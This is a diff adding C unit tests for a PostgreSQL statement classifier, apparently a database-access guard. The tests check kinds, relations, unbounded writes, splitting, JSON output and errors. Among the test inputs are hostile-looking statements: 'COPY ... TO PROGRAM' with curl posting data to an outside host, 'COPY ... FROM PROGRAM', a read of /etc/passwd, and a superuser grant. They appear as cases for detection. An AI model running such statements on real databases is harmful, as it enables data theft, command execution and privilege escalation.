@@ -1,0 +1,392 @@
+/* Unit tests for SQL classification: kinds, relations, unbounded writes, splitting, JSON, errors. */
+#include <airlock/pg.h>
+
+#include <jansson.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "harness.h"
+
+struct kcase {
+	const char *sql;
+	const char *kind;
+	int unbounded;
+	const char *relations;	/* comma-joined, in order */
+};
+
+static const struct kcase cases[] = {
+	/* reads */
+	{ "SELECT 1", "read", 0, "" },
+	{ "SELECT * FROM t WHERE id = 1", "read", 0, "t" },
+	{ "select * from t for update", "read", 0, "t" },
+	{ "SELECT * FROM a JOIN s.b ON a.id = b.id WHERE a.x IN (SELECT y FROM c)", "read", 0, "a,s.b,c" },
+	{ "TABLE t", "read", 0, "t" },
+	{ "VALUES (1), (2)", "read", 0, "" },
+	{ "EXPLAIN DELETE FROM t", "read", 0, "t" },
+	{ "EXPLAIN (ANALYZE false) DELETE FROM t", "read", 0, "t" },
+	{ "EXPLAIN ANALYZE SELECT * FROM t", "read", 0, "t" },
+	{ "DECLARE c CURSOR FOR SELECT * FROM t", "read", 0, "t" },
+	{ "FETCH 10 FROM c", "read", 0, "" },
+	/* writes */
+	{ "INSERT INTO t (a) VALUES (1)", "insert", 0, "t" },
+	{ "INSERT INTO t SELECT * FROM u WHERE x IN (SELECT y FROM v)", "insert", 0, "t,u,v" },
+	{ "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2", "insert", 0, "t" },
+	{ "UPDATE t SET a = 1 WHERE id = 2", "update", 0, "t" },
+	{ "UPDATE t SET a = 1", "update", 1, "t" },
+	{ "UPDATE t SET a = u.a FROM u", "update", 1, "t,u" },
+	{ "UPDATE t SET a = 1 WHERE CURRENT OF c", "update", 0, "t" },
+	{ "DELETE FROM t WHERE id = 1", "delete", 0, "t" },
+	{ "DELETE FROM public.t", "delete", 1, "public.t" },
+	{ "DELETE FROM t USING u WHERE t.id = u.id", "delete", 0, "t,u" },
+	{ "TRUNCATE a, b", "delete", 1, "a,b" },
+	{ "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "merge", 0, "t,s" },
+	/* writing CTEs: a SELECT that writes is the write */
+	{ "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "delete", 1, "t" },
+	{ "WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) SELECT * FROM u", "update", 0, "t" },
+	{ "WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i", "insert", 0, "t" },
+	{ "WITH a AS (UPDATE t SET x = 1 WHERE id = 1 RETURNING *) INSERT INTO l SELECT * FROM a", "update", 0, "t,l" },
+	{ "SELECT * FROM (WITH d AS (DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM d) s", "delete", 0, "t" },
+	{ "EXPLAIN ANALYZE DELETE FROM t", "delete", 1, "t" },
+	{ "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE b = 2", "update", 0, "t" },
+	{ "EXPLAIN (ANALYZE on) INSERT INTO t VALUES (1)", "insert", 0, "t" },
+	{ "PREPARE p (int) AS DELETE FROM t WHERE id = $1", "delete", 0, "t" },
+	{ "PREPARE q AS SELECT * FROM t", "read", 0, "t" },
+	{ "COPY (DELETE FROM t RETURNING *) TO STDOUT", "delete", 1, "t" },
+	/* ddl */
+	{ "CREATE TABLE t (a int)", "ddl", 0, "t" },
+	{ "DROP TABLE a.b, c", "ddl", 0, "a.b,c" },
+	{ "DROP VIEW IF EXISTS v", "ddl", 0, "v" },
+	{ "ALTER TABLE t ADD COLUMN b int", "ddl", 0, "t" },
+	{ "CREATE INDEX i ON t (a)", "ddl", 0, "t" },
+	{ "SELECT a INTO newt FROM old", "ddl", 0, "newt,old" },
+	{ "CREATE TABLE n AS SELECT * FROM o", "ddl", 0, "o,n" },
+	{ "CREATE MATERIALIZED VIEW mv AS SELECT * FROM o", "ddl", 0, "o,mv" },
+	{ "ALTER SYSTEM SET work_mem = '1MB'", "ddl", 0, "" },
+	{ "CREATE EXTENSION pgcrypto", "ddl", 0, "" },
+	{ "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "ddl", 0, "" },
+	{ "LOAD 'auto_explain'", "ddl", 0, "" },
+	{ "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM x", "ddl", 0, "t,x" },
+	{ "REFRESH MATERIALIZED VIEW mv", "ddl", 0, "mv" },
+	/* dcl */
+	{ "GRANT SELECT ON t TO bob", "dcl", 0, "t" },
+	{ "REVOKE ALL ON t FROM bob", "dcl", 0, "t" },
+	{ "GRANT admin TO bob", "dcl", 0, "" },
+	{ "CREATE ROLE r LOGIN PASSWORD 'x'", "dcl", 0, "" },
+	{ "ALTER ROLE bob WITH SUPERUSER", "dcl", 0, "" },
+	{ "ALTER USER bob SET search_path = x", "dcl", 0, "" },
+	{ "ALTER ROLE x RENAME TO y", "dcl", 0, "" },
+	{ "DROP ROLE bob", "dcl", 0, "" },
+	{ "SET ROLE postgres", "dcl", 0, "" },
+	{ "SET LOCAL ROLE postgres", "dcl", 0, "" },
+	{ "SET \"ROLE\" = 'postgres'", "dcl", 0, "" },
+	{ "RESET ROLE", "dcl", 0, "" },
+	{ "SET SESSION AUTHORIZATION bob", "dcl", 0, "" },
+	{ "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", "dcl", 0, "" },
+	/* transactions */
+	{ "BEGIN", "transaction", 0, "" },
+	{ "START TRANSACTION ISOLATION LEVEL SERIALIZABLE", "transaction", 0, "" },
+	{ "COMMIT", "transaction", 0, "" },
+	{ "ROLLBACK", "transaction", 0, "" },
+	{ "SAVEPOINT s1", "transaction", 0, "" },
+	{ "ROLLBACK TO SAVEPOINT s1", "transaction", 0, "" },
+	{ "RELEASE s1", "transaction", 0, "" },
+	{ "SET TRANSACTION READ ONLY", "transaction", 0, "" },
+	/* copy */
+	{ "COPY t FROM STDIN", "copy", 0, "t" },
+	{ "COPY t (a, b) TO STDOUT WITH (FORMAT csv)", "copy", 0, "t" },
+	{ "COPY (SELECT * FROM t) TO STDOUT", "copy", 0, "t" },
+	{ "COPY t TO PROGRAM 'curl -d @- http://x'", "copy_program", 0, "t" },
+	{ "COPY t FROM PROGRAM 'id'", "copy_program", 0, "t" },
+	{ "COPY t FROM '/etc/passwd'", "copy_program", 0, "t" },
+	{ "COPY t TO '/tmp/x'", "copy_program", 0, "t" },
+	/* do / call */
+	{ "DO $$ BEGIN DELETE FROM t; END $$", "do", 0, "" },
+	{ "CALL p(1)", "call", 0, "" },
+	/* utility */
+	{ "SET search_path = app", "utility", 0, "" },
+	{ "SHOW work_mem", "utility", 0, "" },
+	{ "RESET ALL", "utility", 0, "" },
+	{ "VACUUM ANALYZE t", "utility", 0, "t" },
+	{ "LISTEN ch", "utility", 0, "" },
+	{ "NOTIFY ch, 'x'", "utility", 0, "" },
+	{ "DISCARD ALL", "utility", 0, "" },
+	{ "EXECUTE p(1)", "utility", 0, "" },
+	{ "DEALLOCATE p", "utility", 0, "" },
+	{ "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "utility", 0, "t" },
+	{ "CHECKPOINT", "utility", 0, "" },
+	{ "CLOSE c", "utility", 0, "" },
+	/* relations: CTE names are not relations, but only where they are in scope */
+	{ "WITH x AS (SELECT 1) SELECT * FROM x", "read", 0, "" },
+	{ "WITH users AS (SELECT * FROM users) SELECT * FROM users", "read", 0, "users" },
+	{ "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT n FROM r) SELECT * FROM r", "read", 0, "" },
+	{ "SELECT * FROM users, (WITH users AS (SELECT 1) SELECT * FROM users) s", "read", 0, "users" },
+	{ "WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b, c", "read", 0, "c" },
+	{ "WITH x AS (SELECT 1) SELECT * FROM s.x", "read", 0, "s.x" },
+	{ "SELECT * FROM t t1 JOIN t t2 ON true", "read", 0, "t" },
+	{ "SELECT * FROM \"My Table\", \"a.b\", Upper, db.s.t", "read", 0, "\"My Table\",\"a.b\",upper,db.s.t" },
+	{ "SELECT * FROM \"q\"\"x\"", "read", 0, "\"q\"\"x\"" },
+	{ "SELECT (SELECT max(a) FROM s) FROM t WHERE EXISTS (SELECT 1 FROM u)", "read", 0, "s,t,u" },
+};
+
+static void join_relations(const struct pg_stmt *st, char *buf, size_t len)
+{
+	size_t off = 0;
+
+	buf[0] = 0;
+	for (size_t i = 0; i < st->n_relations; i++) {
+		int n = snprintf(buf + off, len - off, "%s%s", i ? "," : "", st->relations[i]);
+
+		if (n < 0 || (size_t)n >= len - off)
+			return;
+		off += (size_t)n;
+	}
+}
+
+static void test_kind_table(void)
+{
+	for (size_t i = 0; i < AL_ARRAY_LEN(cases); i++) {
+		const struct kcase *c = &cases[i];
+		struct pg_stmt_list l;
+		char err[256], rels[512];
+
+		if (pg_classify(c->sql, &l, err, sizeof(err))) {
+			printf("#   %s: %s\n", c->sql, err);
+			CHECK(0);
+			continue;
+		}
+		if (l.n != 1) {
+			printf("#   %s: %zu statements\n", c->sql, l.n);
+			CHECK(0);
+			pg_stmt_list_free(&l);
+			continue;
+		}
+		join_relations(&l.stmts[0], rels, sizeof(rels));
+		if (strcmp(pg_kind_name(l.stmts[0].kind), c->kind) || l.stmts[0].unbounded_write != c->unbounded ||
+		    strcmp(rels, c->relations)) {
+			printf("#   %s: got %s unbounded=%d [%s], want %s unbounded=%d [%s]\n", c->sql,
+			       pg_kind_name(l.stmts[0].kind), l.stmts[0].unbounded_write, rels, c->kind,
+			       c->unbounded, c->relations);
+			CHECK(0);
+		}
+		CHECK(strlen(l.stmts[0].fingerprint) == PG_FINGERPRINT_LEN);
+		pg_stmt_list_free(&l);
+	}
+}
+
+static void test_multi_statement_split(void)
+{
+	const char *sql = "  SELECT 1;\n-- note\nUPDATE t SET a = ';' WHERE b = 2 ;; select 'x;y' /* ; */ ;\nDELETE FROM u  ";
+	struct pg_stmt_list l;
+	char err[256];
+
+	CHECK(pg_classify(sql, &l, err, sizeof(err)) == 0);
+	CHECK(l.n == 4);
+	if (l.n == 4) {
+		CHECK_STR(l.stmts[0].text, "SELECT 1");
+		CHECK(l.stmts[0].location == 2 && l.stmts[0].len == 8);
+		CHECK_STR(l.stmts[1].text, "-- note\nUPDATE t SET a = ';' WHERE b = 2");
+		CHECK(l.stmts[1].kind == PG_KIND_UPDATE && !l.stmts[1].unbounded_write);
+		CHECK_STR(l.stmts[2].text, "select 'x;y' /* ; */");
+		CHECK(l.stmts[2].kind == PG_KIND_READ);
+		CHECK_STR(l.stmts[3].text, "DELETE FROM u");
+		CHECK(l.stmts[3].kind == PG_KIND_DELETE && l.stmts[3].unbounded_write);
+		for (size_t i = 0; i < l.n; i++)
+			CHECK(!strncmp(sql + l.stmts[i].location, l.stmts[i].text, (size_t)l.stmts[i].len));
+	}
+	pg_stmt_list_free(&l);
+}
+
+static void test_empty_and_comment_only(void)
+{
+	struct pg_stmt_list l;
+	char err[64];
+
+	CHECK(pg_classify("", &l, err, sizeof(err)) == 0 && l.n == 0);
+	pg_stmt_list_free(&l);
+	CHECK(pg_classify("  -- nothing\n /* here */ ;", &l, err, sizeof(err)) == 0 && l.n == 0);
+	pg_stmt_list_free(&l);
+}
+
+static void test_fingerprints(void)
+{
+	struct pg_stmt_list l;
+	char err[64];
+
+	/* Constants do not change the fingerprint; the statement shape does. */
+	CHECK(pg_classify("SELECT * FROM t WHERE a = 1; select * FROM t where a = 42; SELECT * FROM u WHERE a = 1",
+			  &l, err, sizeof(err)) == 0);
+	CHECK(l.n == 3);
+	if (l.n == 3) {
+		CHECK_STR(l.stmts[0].fingerprint, l.stmts[1].fingerprint);
+		CHECK(strcmp(l.stmts[0].fingerprint, l.stmts[2].fingerprint) != 0);
+	}
+	pg_stmt_list_free(&l);
+}
+
+static void test_prepared_names(void)
+{
+	struct pg_stmt_list l;
+	char err[64];
+
+	CHECK(pg_classify("PREPARE p AS SELECT 1; EXECUTE p; DEALLOCATE p; DEALLOCATE ALL; SELECT 1",
+			  &l, err, sizeof(err)) == 0);
+	CHECK(l.n == 5);
+	if (l.n == 5) {
+		CHECK_STR(l.stmts[0].prepared_name, "p");
+		CHECK_STR(l.stmts[1].prepared_name, "p");
+		CHECK_STR(l.stmts[2].prepared_name, "p");
+		CHECK(l.stmts[3].prepared_name == NULL);
+		CHECK(l.stmts[4].prepared_name == NULL);
+	}
+	pg_stmt_list_free(&l);
+}
+
+static void test_parse_error(void)
+{
+	struct pg_stmt_list l;
+	char err[256] = "";
+
+	CHECK(pg_classify("SELECT 1; SELEC * FROM t", &l, err, sizeof(err)) == -1);
+	CHECK(l.n == 0 && l.stmts == NULL);
+	CHECK(strstr(err, "syntax error at or near \"SELEC\"") != NULL);
+	CHECK(strstr(err, "at character 11") != NULL);
+	pg_stmt_list_free(&l);
+	CHECK(pg_classify("SELECT 'unterminated", &l, err, sizeof(err)) == -1);
+	CHECK(strstr(err, "unterminated") != NULL);
+	/* A tiny error buffer truncates, it does not overflow. */
+	CHECK(pg_classify("SELEC", &l, err, 8) == -1 && strlen(err) == 7);
+}
+
+/* Statements nested deeper than the parser can safely serialize are refused, not crashed on. */
+static void test_deep_nesting_refused(void)
+{
+	static char sql[64 * 1024];
+	struct pg_stmt_list l;
+	char err[256];
+	size_t off = 0;
+
+	off += (size_t)snprintf(sql, sizeof(sql), "SELECT 1");
+	for (int i = 0; i < 20000 && off + 3 < sizeof(sql); i++)
+		off += (size_t)snprintf(sql + off, sizeof(sql) - off, "-1");
+	CHECK(pg_classify(sql, &l, err, sizeof(err)) == -1);
+	CHECK(strstr(err, "nested too deeply") != NULL);
+	off = (size_t)snprintf(sql, sizeof(sql), "SELECT ");
+	for (int i = 0; i < 3000; i++)
+		off += (size_t)snprintf(sql + off, sizeof(sql) - off, "(SELECT ");
+	off += (size_t)snprintf(sql + off, sizeof(sql) - off, "1");
+	for (int i = 0; i < 3000; i++)
+		off += (size_t)snprintf(sql + off, sizeof(sql) - off, ")");
+	CHECK(pg_classify(sql, &l, err, sizeof(err)) == -1);
+	/* Long flat statements are fine. */
+	off = (size_t)snprintf(sql, sizeof(sql), "SELECT * FROM t WHERE a IN (0");
+	for (int i = 1; i < 5000; i++)
+		off += (size_t)snprintf(sql + off, sizeof(sql) - off, ",%d", i);
+	off += (size_t)snprintf(sql + off, sizeof(sql) - off, ") AND b = 1");
+	for (int i = 0; i < 1000; i++)
+		off += (size_t)snprintf(sql + off, sizeof(sql) - off, " AND c = %d", i);
+	CHECK(pg_classify(sql, &l, err, sizeof(err)) == 0 && l.n == 1);
+	pg_stmt_list_free(&l);
+	/* A moderately nested statement is fine. */
+	off = (size_t)snprintf(sql, sizeof(sql), "SELECT ");
+	for (int i = 0; i < 100; i++)
+		off += (size_t)snprintf(sql + off, sizeof(sql) - off, "(SELECT ");
+	off += (size_t)snprintf(sql + off, sizeof(sql) - off, "1");
+	for (int i = 0; i < 100; i++)
+		off += (size_t)snprintf(sql + off, sizeof(sql) - off, ")");
+	CHECK(pg_classify(sql, &l, err, sizeof(err)) == 0 && l.n == 1);
+	pg_stmt_list_free(&l);
+}
+
+static void test_json_shape(void)
+{
+	struct pg_stmt_list l;
+	char err[64], *s;
+	json_t *j, *o;
+	json_error_t je;
+	const char *key;
+	json_t *v;
+	static const char *const keys[] = { "text", "kind", "relations", "unbounded_write", "fingerprint" };
+	size_t k = 0;
+
+	CHECK(pg_classify("SELECT * FROM a, b; DELETE FROM c", &l, err, sizeof(err)) == 0);
+	s = pg_stmt_list_json(&l, 0);
+	CHECK(s != NULL);
+	j = s ? json_loads(s, 0, &je) : NULL;
+	CHECK(json_is_array(j) && json_array_size(j) == 2);
+	o = json_array_get(j, 0);
+	CHECK(json_object_size(o) == 5);
+	json_object_foreach(o, key, v) {
+		CHECK(k < AL_ARRAY_LEN(keys) && !strcmp(key, keys[k]));
+		k++;
+	}
+	CHECK_STR(json_string_value(json_object_get(o, "text")), "SELECT * FROM a, b");
+	CHECK_STR(json_string_value(json_object_get(o, "kind")), "read");
+	CHECK(json_array_size(json_object_get(o, "relations")) == 2);
+	CHECK_STR(json_string_value(json_array_get(json_object_get(o, "relations"), 1)), "b");
+	CHECK(json_is_false(json_object_get(o, "unbounded_write")));
+	CHECK(strlen(json_string_value(json_object_get(o, "fingerprint"))) == PG_FINGERPRINT_LEN);
+	o = json_array_get(j, 1);
+	CHECK_STR(json_string_value(json_object_get(o, "kind")), "delete");
+	CHECK(json_is_true(json_object_get(o, "unbounded_write")));
+	json_decref(j);
+	free(s);
+	s = pg_stmt_list_json(&l, 1);
+	CHECK(s && strchr(s, '\n'));
+	free(s);
+	pg_stmt_list_free(&l);
+
+	/* Empty input renders as an empty array; invalid UTF-8 still renders as valid JSON. */
+	CHECK(pg_classify("", &l, err, sizeof(err)) == 0);
+	s = pg_stmt_list_json(&l, 0);
+	CHECK_STR(s, "[]");
+	free(s);
+	CHECK(pg_classify("SELECT 'a\xff\xfe' FROM \"t\xc3\"", &l, err, sizeof(err)) == 0);
+	s = pg_stmt_list_json(&l, 0);
+	j = s ? json_loads(s, 0, &je) : NULL;
+	CHECK(json_is_array(j) && json_array_size(j) == 1);
+	json_decref(j);
+	free(s);
+	pg_stmt_list_free(&l);
+}
+
+static void test_text_output(void)
+{
+	struct pg_stmt_list l;
+	char err[64], *buf = NULL;
+	size_t len = 0;
+	FILE *f = open_memstream(&buf, &len);
+
+	CHECK(pg_classify("UPDATE t SET a = 1", &l, err, sizeof(err)) == 0);
+	CHECK(f && pg_stmt_list_print(&l, f) == 0);
+	fclose(f);
+	CHECK(buf && strstr(buf, "kind: update (unbounded write") && strstr(buf, "relations: t"));
+	free(buf);
+	pg_stmt_list_free(&l);
+}
+
+static void test_kind_names(void)
+{
+	enum pg_kind k;
+
+	for (int i = 0; i < PG_KIND__COUNT; i++) {
+		CHECK(pg_kind_parse(pg_kind_name((enum pg_kind)i), &k) == 0 && (int)k == i);
+	}
+	CHECK_STR(pg_kind_name(PG_KIND_COPY_PROGRAM), "copy_program");
+	CHECK(pg_kind_parse("select", &k) == -1);
+	CHECK(pg_kind_is_dml(PG_KIND_MERGE) && !pg_kind_is_dml(PG_KIND_COPY));
+}
+
+int main(void)
+{
+	RUN(test_kind_table);
+	RUN(test_multi_statement_split);
+	RUN(test_empty_and_comment_only);
+	RUN(test_fingerprints);
+	RUN(test_prepared_names);
+	RUN(test_parse_error);
+	RUN(test_deep_nesting_refused);
+	RUN(test_json_shape);
+	RUN(test_text_output);
+	RUN(test_kind_names);
+	TEST_EXIT();
+}
